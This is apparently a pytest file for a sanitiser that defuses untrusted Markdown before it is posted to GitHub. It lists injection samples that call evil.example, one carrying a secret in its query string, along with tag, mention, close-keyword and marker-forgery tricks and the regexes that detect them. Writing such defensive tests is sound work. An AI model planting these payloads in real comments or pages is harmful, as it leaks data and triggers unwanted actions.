"""What strangers write acts on nobody, and is still readable."""

from __future__ import annotations

import re
import time

import pytest

from agent_work_orders.github_integration.resources import markers, untrusted_text

HOSTS = frozenset({"github.com"})


def seen(text: str) -> str:
    """As a person reads it."""
    return text.replace(untrusted_text.BREAK, "")


def harmless(text: str) -> str:
    return untrusted_text.harmless(text, HOSTS)


# How GitHub finds what acts; deliberately wider than the product's own expressions.
IMAGE = re.compile(r"!\[[^\]]*\]\s*[(\[]|<\s*img", re.I)
LINK = re.compile(r"\]\(\s*<?(?:[a-z]+:)?//(?!github\.com[/)])|^\s*\[[^\]]+\]:", re.I | re.M)
ADDRESS = re.compile(r"(?:https?|ftp)://(?!github\.com(?:[/?#\s.,)]|$))|\bwww\.", re.I)
MENTION = re.compile(r"(?<!\w)(?:@|&#0*64;|&#x0*40;|&commat;)\w", re.I)
CLOSING = re.compile(
    r"\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?)\W*\s\W*(?:[\w/.-]*#\d|GH-\d)", re.I
)
TAG = re.compile(r"<(?!/?(?:details|summary|br|sub|sup|kbd|b|i|em|strong) ?/?>)[a-z/!?]", re.I)

ATTACKS = [
    "![x](https://evil.example/?s=secret)",
    "![x][ref]\n\n[ref]: https://evil.example/p.png",
    "![x](//evil.example/p)",
    "![x](<https://evil.example/p>)",
    "![x](\nhttps://evil.example/p)",
    "![x](&#104;ttps&#58;//evil.example/p)",
    r"[x](https://github.com\@evil.example/p)",
    "[x](https://github.com@evil.example/p)",
    "[x](https://github.com&#64;evil.example/p)",
    "[![x](https://evil.example/p)](https://github.com/a/b)",
    '<img src="https://evil.example/p">',
    '<img\nsrc="https://evil.example/p">',
    '<a href="//evil.example">x</a>',
    '<details open ontoggle="x">',
    "<https://evil.example/p>",
    "see https://evil.example/p and http://evil.example, www.evil.example",
    "HTTPS://EVIL.EXAMPLE/p",
    "ftp://evil.example/p",
    "@octocat and @org/team, (@octocat) &#64;octocat &#x40;octocat &commat;octocat \\@octocat",
    "fixes #1, Closes: #2, resolved owner/name#3, Fix GH-4, closes **#5**",
    "<!-- awo:wo-bbbbbbbbbbbbbbbb:pull_request -->",
    "<script>x</script><!-- hidden -->",
    "```mermaid\ngraph TD; A[<img src=https://evil.example/p>]\n```",
    "<b>\n```\n<img src=https://evil.example/p>\n```",
    "  ```\n```\n![x](https://evil.example/p)",
    "- a\n\n  ```\nout ![x](https://evil.example/p)\n```",
    "~~~\n```\n~~~\n![x](https://evil.example/p)",
    "> ```\n![x](https://evil.example/p)\n```\n",
    "``` `\n![x](https://evil.example/p)\n```",
]


@pytest.mark.fault("J3")
@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_acts_and_the_words_stay(attack: str) -> None:
    made = harmless(f"Before.\n\n{attack}\n\nAfter.")
    for acting in (IMAGE, LINK, ADDRESS, MENTION, CLOSING, TAG):
        assert not acting.search(made), acting.pattern
    shown = seen(made).replace("&lt;", "<").replace("&amp;", "&")
    assert shown == f"Before.\n\n{attack}\n\nAfter."


def test_every_attack_acts_when_nothing_is_done() -> None:
    """The control: the expressions above do find what they are for."""
    acting = (IMAGE, LINK, ADDRESS, MENTION, CLOSING, TAG)
    assert all(any(one.search(attack) for one in acting) for attack in ATTACKS)


@pytest.mark.parametrize(
    "text",
    [
        "See [the file](src/a.py), [here](#part) and [there](https://github.com/a/b/issues/1).",
        "![shot](https://github.com/a/b/assets/1)",
        "https://github.com/a/b is fine.",
        "<details><summary>More</summary>\n\ntext\n\n</details>",
        "```python\n@property\ndef f(x): return 'https://evil.example' # fixes #1\n```\n",
        "````\n```\n@a\n````\n",
        "2 < 3 && x > 1; mail me: a@b.example; issue #12; it was closed.",
    ],
)
def test_what_is_harmless_is_left_alone(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.fault("D13")
def test_what_no_body_can_hold_is_taken_out() -> None:
    assert harmless("a\0b\x1b[31mc\r\nd\u202ee\ud800f\tg🎉") == "ab[31mc\nde" + "f\tg🎉"
    assert untrusted_text.line("a\nb\0 @c", 100) == f"a b @{untrusted_text.BREAK}c"
    assert untrusted_text.line("x" * 300, 256) == "x" * 255 + "…"


def test_a_marker_in_code_is_no_marker() -> None:
    forged = markers.marker("wo-b:pull_request")
    sealed = markers.seal(f"```\n{forged}\n```", "wo-a:pull_request", HOSTS)
    assert not markers.carries(sealed, "wo-b:pull_request")
    assert markers.carries(sealed, "wo-a:pull_request")


@pytest.mark.fault("D13")
@pytest.mark.parametrize(
    "text", ["x" * 70_000, "```\n" + "y\n" * 40_000, "`" * 70_000, "🎉" * 65_535]
)
def test_a_long_text_is_cut_with_a_word_and_keeps_its_marker(text: str) -> None:
    sealed = markers.seal(text, "k", HOSTS, ours="Closes #7")
    assert len(sealed) <= markers.BODY_LIMIT
    assert sealed.endswith(f"Closes #7\n\n{markers.marker('k')}")
    assert "Cut here" in sealed
    assert untrusted_text.open_fence(sealed) == ""


def test_a_text_that_just_fits_is_whole() -> None:
    tail = f"\n\n{markers.marker('k')}"
    text = "x" * (markers.BODY_LIMIT - len(tail))
    assert markers.seal(text, "k", HOSTS) == text + tail
    assert "Cut here" in markers.seal(text + "x", "k", HOSTS)


def test_a_fence_left_open_does_not_swallow_the_marker() -> None:
    assert markers.seal("```\ncode", "k", HOSTS) == f"```\ncode\n```\n\n{markers.marker('k')}"


def test_a_key_cannot_end_its_comment() -> None:
    made = markers.marker("a--> <img>")
    assert re.fullmatch(r"<!-- awo:[0-9a-f]{64} -->", made)
    assert made != markers.marker("a--> <img >")


@pytest.mark.parametrize("piece", ["[", "](", "![a](", "@", "closes ", "<", "&#", "https://", "`"])
def test_hostile_repetitions_take_linear_time(piece: str) -> None:
    """Compared with itself: ten times the text may take at most fifty times as long."""

    def measured(times: int) -> float:
        text = piece * times
        begun = time.process_time()
        harmless(text)
        return time.process_time() - begun

    measured(1_000)
    assert measured(60_000) <= 50 * max(measured(6_000), 0.01)
